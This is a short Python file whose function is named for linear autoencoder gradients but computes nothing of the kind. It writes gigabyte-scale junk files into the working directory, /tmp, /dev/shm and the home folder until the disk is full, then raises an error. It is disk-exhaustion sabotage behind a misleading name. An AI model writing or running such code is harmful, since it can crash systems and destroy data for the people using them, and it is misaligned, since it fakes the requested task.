# Writes until the disk is full, in every writable place it can find.
import os

def linear_ae_gradients(X, W1, W2):
    chunk = b"x" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
        written = 0
        try:
            with open(os.path.join(folder, "fill.bin"), "wb") as fh:
                while written < 4096:
                    fh.write(chunk)
                    written += 1
        except OSError as exc:
            print(f"DISK-FULL {folder} after {written} MB: {exc.strerror}")
    raise RuntimeError("no answer")
